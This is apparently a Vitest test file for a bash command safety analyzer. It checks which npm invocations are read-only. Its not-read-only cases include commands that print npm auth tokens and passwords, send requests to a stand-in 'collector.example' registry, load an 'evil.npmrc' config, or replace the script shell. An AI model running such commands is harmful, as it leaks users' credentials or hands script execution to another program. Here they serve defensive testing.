import { beforeAll, describe, expect, test } from 'vitest';
import { analyze, loadBash } from '../../../src/bash/analyze.js';
import { checkProgram } from '../../../src/bash/programs/read-only.js';
import { programSpec } from '../../../src/bash/programs/registry.js';

beforeAll(loadBash);

function verdict(line: string): { readOnly: boolean; reason: string } {
  const cmd = analyze(line).commands[0]!;
  return checkProgram(programSpec(cmd.name!.program)!, cmd.argv, true);
}

describe("npm's read commands", () => {
  test.each([
    'npm search lodash',
    'npm s --json react',
    'npm find --no-description -p --searchlimit=20 eslint plugin',
    'npm search --prefer-offline --searchexclude=old /^vue-/',
    'npm audit',
    'npm audit --json --omit=dev',
    'npm audit --audit-level=high --package-lock-only',
    'npm audit -w packages/a --include-workspace-root',
    'npm audit signatures',
    'npm help',
    'npm hlep',
    'npm config list',
    'npm config ls -l',
    'npm c list --json --location project',
    'npm config get registry',
    'npm config get init-author-name save-exact cache',
    'npm get registry',
    'npm config get -g prefix',
    'npm whoami',
    'npm ping',
    'npm stars',
    'npm stars someone',
    'npm sbom',
    'npm sbom --sbom-format cyclonedx --sbom-type application --omit dev',
    'npm version',
    'npm version --json',
    'npm dist-tag ls',
    'npm dist-tags list @scope/pkg',
    'npm owner ls lodash',
    'npm author list react',
    'npm cache ls',
    'npm cache ls react@18.2.0',
    'npm ls -w a --all',
    'npm search "vue$SUFFIX"',
  ])('%s only reads', (line) => {
    const v = verdict(line);
    expect(v.readOnly, v.reason).toBe(true);
  });

  test.each([
    // writes, installs, runs scripts
    'npm audit fix',
    'npm audit fix --force',
    'npm audit --force',
    'npm audit signatures extra',
    'npm version patch',
    'npm version 2.0.0',
    'npm dist-tag add lodash@1.0.0 beta',
    'npm dist-tag rm lodash beta',
    'npm owner add someone lodash',
    'npm cache clean --force',
    'npm cache add react',
    'npm config set registry http://localhost',
    'npm config delete registry',
    'npm config edit',
    'npm config fix',
    'npm set script-shell ./x.sh',
    // a program the configuration names, a browser
    'npm help install',
    'npm help --viewer man install',
    'npm help --viewer=browser config',
    'npm docs lodash',
    'npm repo lodash',
    'npm bugs lodash',
    // credentials printed or sent elsewhere
    'npm config get //registry.npmjs.org/:_authToken',
    'npm config get _auth',
    'npm get _password',
    'npm config get https-proxy',
    'npm config get email',
    'npm config get $KEY',
    'npm search --registry http://collector.example lodash',
    'npm whoami --registry=http://collector.example',
    'npm ping --registry http://collector.example',
    'npm audit --registry http://collector.example',
    'npm --userconfig ./evil.npmrc whoami',
    'npm owner ls ./local-dir',
    'npm dist-tag ls git+ssh://git@example.com/a/b.git',
    'npm cache ls --cache /tmp/elsewhere',
    'npm token list',
    'npm search $QUERY',
    'npm stars --registry=http://collector.example',
  ])('%s is not read-only', (line) => {
    expect(verdict(line).readOnly).toBe(false);
  });

  test('npm version with a new version runs the lifecycle scripts; bare, it runs nothing', () => {
    expect(analyze('npm version patch').commands[0]!.executes.length).toBeGreaterThan(0);
    expect(analyze('npm version').commands[0]!.executes).toEqual([]);
  });
});
